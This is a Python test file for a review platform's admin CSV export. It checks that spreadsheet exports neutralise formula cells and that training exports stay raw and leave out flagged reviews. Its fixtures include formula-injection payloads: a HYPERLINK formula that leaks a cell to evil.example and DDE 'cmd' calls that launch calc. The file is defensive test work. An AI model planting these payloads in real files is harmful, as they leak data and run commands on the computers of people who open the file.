"""The admin's CSV export: cells a spreadsheet would run come out inert; the training export is raw
and leaves out the flagged reviews; both name each review's id and flag."""

from __future__ import annotations

import csv
import io

import pytest

from brandpulse.api.endpoints.csv_export import COLUMNS, FORMULA_STARTS, neutralise
from brandpulse.api.storage.db import get_database
from brandpulse.api.storage.tables import Brand, Review
from brandpulse.training.data import label_scheme, load_dataset
from tests.api.conftest import ADMIN, post_review

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# One text per start a spreadsheet runs. POST /api/review strips surrounding blanks, so the tab
# and the carriage return can only be stored another way (an older version, an import): they are
# written to the database directly.
FORMULAS = {
    "=": HYPERLINK,
    "+": "+1+cmd|' /C calc'!A0 and some words",
    "-": "-2+3+cmd|' /C calc'!A0 and more words",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0 at last",
    "tab": "\t=1+1 a tab before a formula",
    "cr": "\r=1+1 a carriage return before a formula",
}
PLAIN = "Plain words, nothing to run: 5 stars."


def _store(app, client, text: str, rating: int = 4) -> int:
    review_id = post_review(client, text=PLAIN, rating=rating).json["id"]
    with app.app_context(), get_database().connection_context():
        Review.update(text=text).where(Review.id == review_id).execute()
    return review_id


def _rows(client, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/api/reviews/export.csv{query}", headers=ADMIN)
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_the_first_cell_of_a_hyperlink_review_posted_by_a_visitor_comes_out_inert(app, client):
    created = post_review(client, text=HYPERLINK, rating=1)
    assert created.status_code == 201, created.json
    response = client.get("/api/reviews/export.csv", headers=ADMIN)
    assert 'attachment; filename="reviews.csv"' == response.headers["Content-Disposition"]
    (row,) = csv.DictReader(io.StringIO(response.get_data(as_text=True), newline=""))
    assert row["text"] == "'" + HYPERLINK
    assert row["label"] == "1"


@pytest.mark.parametrize("start", sorted(FORMULAS))
def test_each_formula_start_is_prefixed_with_a_quote(app, client, start):
    text = FORMULAS[start]
    if start in ("tab", "cr"):
        _store(app, client, text)
    else:  # as a visitor sends it
        assert post_review(client, text=text).status_code == 201
    _store(app, client, PLAIN, rating=5)
    rows = _rows(client)
    assert [row["text"] for row in rows] == ["'" + text, PLAIN]
    assert not any(row["text"].startswith(FORMULA_STARTS) for row in rows)


def test_numbers_and_plain_text_are_untouched(app, client):
    _store(app, client, "-1 star would be too many, seriously.", rating=1)
    _store(app, client, PLAIN, rating=5)
    rows = _rows(client)
    assert [row["text"] for row in rows] == ["'-1 star would be too many, seriously.", PLAIN]
    assert [row["label"] for row in rows] == ["1", "5"]
    for row in rows:
        assert 0.0 <= float(row["score"]) <= 1.0
        assert int(row["suggested_rating"]) in range(1, 6)
        assert row["created_at"][0].isdigit()


def test_a_brand_name_is_a_text_cell_too(app, client):
    _store(app, client, PLAIN)
    with app.app_context(), get_database().connection_context():
        Brand.update(name="@Nike").where(Brand.name == "Nike").execute()
    (row,) = _rows(client)
    assert row["brand"] == "'@Nike"


def test_the_training_export_keeps_the_texts_raw_for_train(app, client, tmp_path):
    for index, text in enumerate(FORMULAS.values()):
        _store(app, client, text, rating=index % 5 + 1)
    response = client.get("/api/reviews/export.csv?format=training", headers=ADMIN)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert 'filename="reviews-training.csv"' in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["text"] for row in rows] == list(FORMULAS.values())
    path = tmp_path / "reviews.csv"
    path.write_bytes(response.get_data())
    dataset = load_dataset(path, scheme=label_scheme("stars3"))
    assert len(dataset) == len(FORMULAS)


def test_both_exports_name_each_review_and_its_flag_and_training_leaves_flagged_ones_out(
    app, client, tmp_path
):
    kept = post_review(client, text="Sturdy boots that kept my feet dry all winter.", rating=5).json
    spam = post_review(client, text="Cheap followers at example dot com, buy now!!!", rating=5).json
    bad = post_review(client, text="The zip broke on the second day, very poor.", rating=1).json
    flagged = client.put(f"/api/reviews/{spam['id']}/flag", json={"flagged": True}, headers=ADMIN)
    assert flagged.status_code == 200

    spreadsheet = client.get("/api/reviews/export.csv", headers=ADMIN).get_data(as_text=True)
    assert spreadsheet.startswith(",".join(COLUMNS) + "\r\n")
    assert COLUMNS[:6] == ("text", "label", "brand", "created_at", "suggested_rating", "score")  # as before
    rows = list(csv.DictReader(io.StringIO(spreadsheet, newline="")))
    assert [(int(row["id"]), row["flagged"]) for row in rows] == [
        (kept["id"], "false"),
        (spam["id"], "true"),
        (bad["id"], "false"),
    ]

    response = client.get("/api/reviews/export.csv?format=training", headers=ADMIN)
    training = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert [int(row["id"]) for row in training] == [kept["id"], bad["id"]]  # the flagged one left out
    assert {row["flagged"] for row in training} == {"false"}
    path = tmp_path / "reviews-training.csv"
    path.write_bytes(response.get_data())
    dataset = load_dataset(path, scheme=label_scheme("stars3"))  # what `train --data` reads
    assert len(dataset) == 2 and dataset.class_counts() == {"bad": 1, "average": 0, "good": 1}


def test_the_spreadsheet_format_is_the_default_and_other_formats_are_refused(app, client):
    _store(app, client, HYPERLINK)
    assert _rows(client, "?format=spreadsheet") == _rows(client)
    assert _rows(client, "?format=spreadsheet&brand=Nike")[0]["text"] == "'" + HYPERLINK
    response = client.get("/api/reviews/export.csv?format=excel", headers=ADMIN)
    assert response.status_code == 422
    assert "format" in str(response.json)


def test_the_openapi_description_documents_both_formats(client):
    spec = client.get("/api/openapi.json").json
    operation = spec["paths"]["/api/reviews/export.csv"]["get"]
    (parameter,) = [p for p in operation["parameters"] if p["name"] == "format"]
    assert parameter["schema"]["enum"] == ["spreadsheet", "training"]
    assert "'" in parameter["description"] and "train" in parameter["description"]
    assert "flagged" in parameter["description"] and "flagged" in operation["responses"]["200"]["description"]
    assert "OWASP" in operation["responses"]["200"]["description"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (" =1", " =1"),
        (-1, -1),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected
